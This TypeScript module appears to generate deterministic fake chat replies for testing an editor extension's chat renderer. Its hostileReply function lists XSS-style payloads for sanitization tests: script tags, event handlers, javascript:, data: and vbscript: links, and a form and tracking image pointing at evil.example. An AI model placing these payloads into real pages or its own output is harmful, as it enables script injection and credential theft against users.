// Deterministic reply texts derived from the conversation, and the keywords that script special replies.

const KEYWORD = /\[(?:long:\d+|chunks:\d+|reasoning|think|hostile|echo|parallel|refusal|fault:[a-z0-9-]+|fail|not-image|not-audio)\]/gi;

/** One block of context the extension puts before the user's words (src/chat/core/contextPrompt.ts). */
const CONTEXT_BLOCK = /^(?:(?:File|Selection from) `[^`\n]*` \([^\n]*\)|Problems reported in `[^`\n]*`):\n\n(`{3,})[^\n]*\n[\s\S]*?\n\1\n\n/;

/** The user's own words after any attached context, as a model reading the question would take them. */
export function withoutContext(text: string): string {
  let rest = text;
  for (let match = CONTEXT_BLOCK.exec(rest); match; match = CONTEXT_BLOCK.exec(rest)) rest = rest.slice(match[0].length);
  return rest;
}

/** The user's words (without attached context and simulator keywords), on one line, at most `max` characters. */
export function snippetOf(text: string, max = 60): string {
  const flat = withoutContext(text).replace(KEYWORD, '').replace(/\s+/g, ' ').trim();
  if (flat === '') return '(empty message)';
  return flat.length > max ? `${flat.slice(0, max - 1)}…` : flat;
}

export function withoutKeywords(text: string): string {
  return text.replace(KEYWORD, '').trim();
}

export function keywordNumber(text: string, name: string): number | undefined {
  const match = new RegExp(`\\[${name}:(\\d+)\\]`, 'i').exec(text);
  return match ? Number(match[1]) : undefined;
}

export function hasKeyword(text: string, name: string): boolean {
  return text.toLowerCase().includes(`[${name}]`);
}

/** Small stable hash so replies vary with the message but never between runs. */
export function stableHash(text: string): number {
  let hash = 2166136261;
  for (let i = 0; i < text.length; i++) {
    hash ^= text.charCodeAt(i);
    hash = Math.imul(hash, 16777619);
  }
  return hash >>> 0;
}

function slug(text: string): string {
  return (
    text
      .toLowerCase()
      .replace(/[^a-z0-9]+/g, '-')
      .replace(/^-|-$/g, '')
      .slice(0, 40) || 'topic'
  );
}

const CODE_SAMPLES: Array<{ lang: string; code: (topic: string) => string }> = [
  {
    lang: 'typescript',
    code: (topic) =>
      `interface Answer {\n  topic: string;\n  words: number;\n}\n\nexport function answer(topic: string): Answer {\n  return { topic, words: topic.split(/\\s+/).length };\n}\n\nconsole.log(answer(${JSON.stringify(topic)}));`,
  },
  {
    lang: 'python',
    code: (topic) =>
      `def answer(topic: str) -> dict:\n    """Count the words of the topic."""\n    return {"topic": topic, "words": len(topic.split())}\n\n\nprint(answer(${JSON.stringify(topic)}))`,
  },
  {
    lang: 'bash',
    code: (topic) => `#!/usr/bin/env bash\nset -euo pipefail\ntopic=${JSON.stringify(topic)}\necho "topic: $topic" | wc -w`,
  },
  {
    lang: 'json',
    code: (topic) => JSON.stringify({ topic, tags: ['demo', 'simulator'], nested: { ok: true, count: 3 } }, null, 2),
  },
  {
    lang: 'rust',
    code: (topic) =>
      `fn main() {\n    let topic = ${JSON.stringify(topic)};\n    let words = topic.split_whitespace().count();\n    println!("{topic}: {words} words");\n}`,
  },
];

/** The default reply: headings, lists, a table, links, a quote and fenced code in several languages. */
export function markdownReply(userText: string, model: string): string {
  const topic = snippetOf(userText);
  const hash = stableHash(userText);
  const first = CODE_SAMPLES[hash % CODE_SAMPLES.length];
  const second = CODE_SAMPLES[(hash + 1 + (hash >>> 8) % (CODE_SAMPLES.length - 1)) % CODE_SAMPLES.length];
  const words = withoutKeywords(withoutContext(userText)).split(/\s+/).filter(Boolean).length;
  return [
    `## Reply to “${topic}”`,
    '',
    `You wrote **${words} word${words === 1 ? '' : 's'}**; this is *${model}* answering with a deterministic reply (#${hash % 1000}).`,
    '',
    '### Key points',
    '',
    `- The topic is \`${topic.replace(/`/g, "'")}\``,
    `- Read more in the [guide](https://example.com/docs/${slug(topic)}) or the [API reference](https://example.com/api#chat)`,
    '- Unicode survives streaming: naïve café — ✓ 🚀 中文',
    '  - a nested item',
    '',
    '1. First, restate the question.',
    '2. Then, answer it.',
    '3. Finally, show code.',
    '',
    '| Model | Kind | Notes |',
    '| --- | --- | --- |',
    '| model-k3 | chat | fast |',
    '| model-5.2 | chat | careful |',
    '| model-1.0-video-edit | video | asynchronous jobs |',
    '',
    `\`\`\`${first.lang}`,
    first.code(topic),
    '```',
    '',
    `> ${topic}`,
    '',
    `\`\`\`${second.lang}`,
    second.code(topic),
    '```',
    '',
    `That is all about “${topic}”.`,
  ].join('\n');
}

export function longReply(userText: string, paragraphs: number): string {
  const topic = snippetOf(userText, 40);
  const out: string[] = [];
  for (let i = 1; i <= paragraphs; i++) {
    if (i % 5 === 1) out.push(`## Part ${Math.ceil(i / 5)}`);
    out.push(
      `Paragraph ${i} of ${paragraphs} about “${topic}”. It carries enough ordinary words to wrap across several lines in a narrow panel, with *emphasis*, **strong text** and \`inline code\` so the renderer has work to do.`,
    );
  }
  return out.join('\n\n');
}

/** Markdown a renderer must sanitize: raw HTML, scripts, event handlers, javascript: links, remote images. */
export function hostileReply(): string {
  return [
    '## Hostile content test',
    '',
    '<script>window.__pwned = "script-tag"</script>',
    '<img src="x" onerror="window.__pwned = \'onerror\'">',
    '<iframe src="https://evil.example/frame"></iframe>',
    '<a href="javascript:window.__pwned = \'html-link\'">html javascript link</a>',
    '<svg onload="window.__pwned = \'svg\'"><circle r="5"/></svg>',
    '<style>body { display: none !important; }</style>',
    '<form action="https://evil.example/steal"><input name="token"><button>Submit</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '',
    '[markdown javascript link](javascript:window.__pwned=\'md-link\')',
    '[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[vbscript link](vbscript:msgbox("x"))',
    '<javascript:window.__pwned="autolink">',
    '',
    '![remote tracking image](https://evil.example/pixel.png?user=1)',
    '![inline svg image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
    '',
    '<div onclick="window.__pwned = \'click\'" style="position:fixed;inset:0">overlay</div>',
    '',
    'This code block must show its tags as text:',
    '',
    '```html',
    '<script>alert("shown, never run")</script>',
    '```',
  ].join('\n');
}

export function reasoningText(userText: string): string {
  const topic = snippetOf(userText, 40);
  return `The user asks about “${topic}”. First I restate it, then I list the key points, then I give code. A table helps compare the models.`;
}

export function toolResultReply(toolName: string, result: string): string {
  return `The tool \`${toolName}\` returned: ${snippetOf(result, 120)}\n\nBased on that result, here is the answer: **done**.`;
}

/** Splits text into "tokens": a run of up to 8 non-space characters with the whitespace before it. */
export function tokenize(text: string): string[] {
  return text.match(/\s*\S{1,8}|\s+/gu) ?? [];
}

export function countTokens(text: string): number {
  return tokenize(text).length;
}
